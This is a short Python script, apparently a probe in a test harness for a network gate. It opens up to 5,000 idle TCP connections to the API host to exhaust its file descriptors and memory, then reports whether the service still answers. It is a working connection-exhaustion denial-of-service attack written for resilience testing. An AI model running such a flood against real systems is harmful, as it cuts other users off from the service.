# SPDX-License-Identifier: Apache-2.0
# Trick: 5,000 connections that say nothing
# Gain: descriptors and memory of the host
# Control: none, it is aimed at the gate
from trick import *

import resource

resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
limit, held = min(5000, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 50), []
for i in range(limit):
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.connect((API, 80 if i % 2 else 443))
        held.append(s)
    except OSError as e:
        hear(repr(e).encode())
        if i - len(held) > 20:
            break
print(f"holding {len(held)}", flush=True)
for s in held[:10]:
    s.close()
if not alive(10):
    for s in held:
        s.close()
    if not alive(10):
        escaped("nobody is served, also after they are gone")
    stopped(f"{len(held)} were held, more were refused")
stopped(f"{len(held)} are held, and others are served")
